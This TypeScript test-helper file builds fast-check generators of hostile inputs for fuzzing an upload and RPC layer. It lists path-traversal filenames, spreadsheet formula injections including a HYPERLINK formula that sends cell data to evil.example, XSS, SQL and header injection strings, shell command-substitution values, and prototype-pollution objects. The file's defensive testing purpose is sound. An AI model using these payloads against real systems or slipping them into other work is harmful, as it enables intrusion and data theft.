import fc from 'fast-check';

// What nobody means well with: values made from nothing but hostility, for every place that takes a value.

/** Names that lead out of a folder, to a device, to another machine or into a language's own insides. */
export const HOSTILE_NAMES = [
  '../../../etc/passwd',
  '..\\..\\..\\Windows\\win.ini',
  '/etc/passwd',
  'C:\\Windows\\System32\\config\\SAM',
  'C:evil.xlsx',
  '\\\\server\\share\\x',
  '\\\\?\\C:\\x',
  'file:///etc/passwd',
  '%2e%2e%2fsecret',
  'CON',
  'nul.xlsx',
  'COM1.txt',
  'a.xlsx.',
  'a.xlsx ',
  'a.xlsx:stream',
  '.htaccess',
  '..',
  '.',
  'a\u0000.xlsx',
  'a\r\nSet-Cookie: x=1.xlsx',
  'gnp.\u202Excod.exe',
  '"; filename="evil.exe',
  "''%27",
  '\uD800.xlsx',
  'a<b>:"/\\|?*.xlsx',
  `${'长'.repeat(5000)}.xlsx`,
] as const;

/** Cells that a spreadsheet would calculate, and texts that a page, a mail, a query or a shell would take for orders. */
export const HOSTILE_TEXTS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '=WEBSERVICE("http://evil.example")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  "'; DROP TABLE station; --",
  '%_\\%',
  '" OR 1=1 --',
  'a@b.cn\r\nBcc: c@d.cn',
  '$(touch x)',
  '`id`',
  '{{7*7}}<%= 7*7 %>',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
] as const;

const STRINGS = [
  ...HOSTILE_NAMES,
  ...HOSTILE_TEXTS,
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\u202E\u2066',
  '\uFEFF',
  '\u2028',
  '𠮷👨‍👩‍👧‍👦',
  'e\u0301'.repeat(500),
  '9999-99-99',
  '0000-00-00',
  '2023-02-30',
  '+002023-09-20',
  '00000000-0000-0000-0000-000000000000',
  '1e308',
  'NaN',
  '-0',
  '0x10',
  'null',
  'undefined',
  '[object Object]',
  'a'.repeat(100_000),
  '中'.repeat(300_000),
  '\n'.repeat(20_000),
  `${'('.repeat(20_000)}a${')'.repeat(20_000)}`,
  `a${' '.repeat(50_000)}b`,
];

export const HOSTILE_NUMBERS = [
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  -0,
  1e308,
  -1e308,
  5e-324,
  0.1,
  -1,
  1.5,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 53) - 2,
];

const nested = (depth: number, wrap: (inner: unknown) => unknown): unknown => {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = wrap(value);
  return value;
};

/** Own keys that an ordinary literal cannot have. */
const withKey = (key: string, value: unknown): object =>
  Object.defineProperty({}, key, { value, enumerable: true, configurable: true, writable: true });

const OBJECTS: (() => unknown)[] = [
  () => ({}),
  () => [],
  () => [undefined],
  () => [null],
  () => new Array(3),
  () => new Array(200_000).fill(0),
  () => new Array(50_000).fill('x'),
  () => ({ length: 1_000_000 }),
  () => withKey('__proto__', { polluted: true }),
  () => withKey('__proto__', null),
  () => ({ constructor: { prototype: { polluted: true } } }),
  () => withKey('prototype', { polluted: true }),
  () => ({ toString: 'x', valueOf: 'y', toJSON: 'z' }),
  () => withKey('then', 'no function'),
  () => Object.create(null),
  () => Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, i])),
  () => nested(500, (inner) => ({ a: inner })),
  () => nested(500, (inner) => [inner]),
  () => new Date(Number.NaN),
  () => new Date('2023-09-20T00:00:00Z'),
  () => new Set([1, '2']),
  () => new Map<unknown, unknown>([['a', 1]]),
  () => /(a+)+$/,
  () => new URL('https://evil.example/'),
  () => 12n,
  () => new Uint8Array(8),
];

/** What no wire carries, but what a caller in the same process might hand over. */
const UNCARRIED: (() => unknown)[] = [
  () => Symbol('hostile'),
  () => () => 'called',
  () => new WeakMap(),
  () => new Error('hostile'),
  () => new Proxy({}, {}),
  () => {
    const cycle: Record<string, unknown> = {};
    cycle.self = cycle;
    return cycle;
  },
  () => nested(20_000, (inner) => [inner]),
];

const NOTHING = new Uint8Array();
const text = (of: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(of);

/** Files with hostile names, and files that are not what they say. */
export const hostileFile: fc.Arbitrary<File> = fc
  .tuple(
    fc.constantFrom<string>('台账.xlsx', '台账.csv', '台账.xls', '', ...HOSTILE_NAMES),
    fc.oneof(
      fc.constantFrom<Uint8Array<ArrayBuffer>>(
        NOTHING,
        text('PK\x03\x04'),
        text(`PK\x03\x04${'\0'.repeat(200)}`),
        text('名称,地址\n=1+1,@SUM(1)\n'),
        text('"'.repeat(10_000)),
        text(','.repeat(5000)),
        new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]),
        new Uint8Array([0xff, 0xfe, 0x00]),
        new Uint8Array(1000).fill(0xff),
      ),
      fc.uint8Array({ maxLength: 300 }).map((bytes) => new Uint8Array(bytes)),
    ),
    fc.constantFrom('', 'text/html', 'application/x-msdownload', 'image/svg+xml'),
  )
  .map(([name, bytes, type]) => new File([bytes], name, { type }));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
);

/**
 * Any value that means no good. `wire`: only those that oRPC's serializer can carry. Objects are made anew each time: what one call does to
 * its value is no matter of the next.
 */
export function hostileValue(of: { wire: boolean }): fc.Arbitrary<unknown> {
  const makers = of.wire ? OBJECTS : [...OBJECTS, ...UNCARRIED];
  return fc.oneof(
    { weight: 5, arbitrary: hostileString },
    { weight: 3, arbitrary: fc.constantFrom<unknown>(...HOSTILE_NUMBERS) },
    { weight: 2, arbitrary: fc.constantFrom<unknown>(undefined, null, true, false) },
    { weight: 4, arbitrary: fc.constantFrom(...makers).map((make) => make()) },
    { weight: 1, arbitrary: hostileFile },
    { weight: 1, arbitrary: fc.anything({ maxDepth: 3, withNullPrototype: !of.wire, withBigInt: true, withDate: true }) },
  );
}
